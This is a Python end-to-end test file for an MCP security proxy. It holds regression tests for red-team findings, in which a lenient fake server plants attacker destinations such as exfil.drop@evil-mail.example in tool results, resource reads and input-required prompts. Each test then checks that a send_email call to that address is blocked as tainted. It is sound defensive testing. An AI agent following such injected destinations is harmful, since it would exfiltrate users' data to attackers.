"""Regressions for red-team findings, through the real proxy with a lenient raw upstream."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import ROOT, Harness, cordon_exe

pytestmark = [pytest.mark.e2e]


INIT_PARAMS = {
    "protocolVersion": "2025-11-25",
    "capabilities": {},
    "clientInfo": {"name": "t", "version": "1"},
}


class Raw:
    def __init__(self, harness: Harness, env: dict[str, str], extra: list[str] = ()) -> None:  # type: ignore[assignment]
        cmd = [
            *cordon_exe(),
            "run",
            "--audit",
            str(harness.audit),
            *extra,
            "--",
            sys.executable,
            str(ROOT / "tests" / "servers" / "lenient.py"),
        ]
        self.proc = subprocess.Popen(
            cmd,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            env={**os.environ, "HOME": str(harness.home), **env},
        )
        self.seen: list[dict[str, Any]] = []

    def rpc(self, i: Any, method: str, params: dict[str, Any]) -> dict[str, Any]:
        assert self.proc.stdin is not None and self.proc.stdout is not None
        self.proc.stdin.write(
            json.dumps({"jsonrpc": "2.0", "id": i, "method": method, "params": params}).encode()
            + b"\n"
        )
        self.proc.stdin.flush()
        while True:
            reply = json.loads(self.proc.stdout.readline())
            self.seen.append(reply)
            if reply.get("id") == i:
                return reply

    def handshake(self) -> dict[str, Any]:
        """initialize (id 1) and tools/list (id 2); returns the initialize reply."""
        init = self.rpc(1, "initialize", INIT_PARAMS)
        self.rpc(2, "tools/list", {})
        return init

    def close(self) -> None:
        assert self.proc.stdin is not None
        self.proc.stdin.close()
        self.proc.wait(timeout=30)


def _outbox(d: Path) -> list[dict[str, Any]]:
    f = d / "outbox.jsonl"
    return [json.loads(x) for x in f.read_text().splitlines()] if f.exists() else []


@pytest.mark.requirement("inv:everything-untrusted")
def test_string_echoed_ids_are_still_checked(harness: Harness) -> None:
    """F1: an upstream answering request 3 with id "3" is matched like clients match it."""
    d = harness.tmp / "box"
    d.mkdir()
    raw = Raw(harness, {"LENIENT_DIR": str(d), "LENIENT_ID": "str"})
    init = raw.rpc(
        1,
        "initialize",
        {
            "protocolVersion": "2025-11-25",
            "capabilities": {},
            "clientInfo": {"name": "t", "version": "1"},
        },
    )
    assert init["id"] == 1  # rewritten to the id the client sent
    assert [t["name"] for t in raw.rpc(2, "tools/list", {})["result"]["tools"]] == [
        "read_doc",
        "needs_input",
        "send_email",
    ]
    doc = raw.rpc(3, "tools/call", {"name": "read_doc", "arguments": {}})
    assert "exfil.drop" in doc["result"]["content"][0]["text"]
    sent = raw.rpc(
        4,
        "tools/call",
        {"name": "send_email", "arguments": {"to": "exfil.drop@evil-mail.example", "body": "x"}},
    )
    assert (
        sent["result"]["isError"] and "taint.seen_in_output" in sent["result"]["content"][0]["text"]
    )
    raw.close()
    assert _outbox(d) == []
    assert all(r.get("id") != 999 for r in raw.seen)  # the unsolicited response was dropped


@pytest.mark.requirement("inv:everything-untrusted")
def test_resource_reads_are_untrusted_output(harness: Harness) -> None:
    """F2: resources/read results taint like tool results."""
    d = harness.tmp / "box"
    d.mkdir()
    raw = Raw(harness, {"LENIENT_DIR": str(d)})
    raw.handshake()
    res = raw.rpc(3, "resources/read", {"uri": "mem://doc"})
    assert "res.drop" in res["result"]["contents"][0]["text"]
    sent = raw.rpc(
        4,
        "tools/call",
        {"name": "send_email", "arguments": {"to": "res.drop@evil-mail.example", "body": "x"}},
    )
    assert (
        sent["result"]["isError"] and "taint.seen_in_output" in sent["result"]["content"][0]["text"]
    )
    raw.close()
    assert _outbox(d) == []


@pytest.mark.requirement("inv:everything-untrusted")
@pytest.mark.parametrize("declared", [True, False])
def test_upstream_input_required_results_are_untrusted_output(
    harness: Harness, declared: bool
) -> None:
    """An ``input_required`` result's questions are server output: a destination in them is
    tainted, whether the question reached a client that declared elicitation (relayed) or
    was refused to one that did not (a JSON-RPC error naming why)."""
    d = harness.tmp / "box"
    d.mkdir()
    raw = Raw(harness, {"LENIENT_DIR": str(d)})
    caps = {"elicitation": {}} if declared else {}
    raw.rpc(1, "initialize", {**INIT_PARAMS, "capabilities": caps})
    raw.rpc(2, "tools/list", {})
    ir = raw.rpc(3, "tools/call", {"name": "needs_input", "arguments": {}})
    if declared:
        assert ir["result"]["resultType"] == "input_required", ir  # relayed unchanged
    else:
        assert "did not declare" in ir["error"]["message"], ir
    sent = raw.rpc(
        4,
        "tools/call",
        {"name": "send_email", "arguments": {"to": "ir.drop@evil-mail.example", "body": "x"}},
    )
    assert (
        sent["result"]["isError"] and "taint.seen_in_output" in sent["result"]["content"][0]["text"]
    )
    raw.close()
    assert _outbox(d) == []
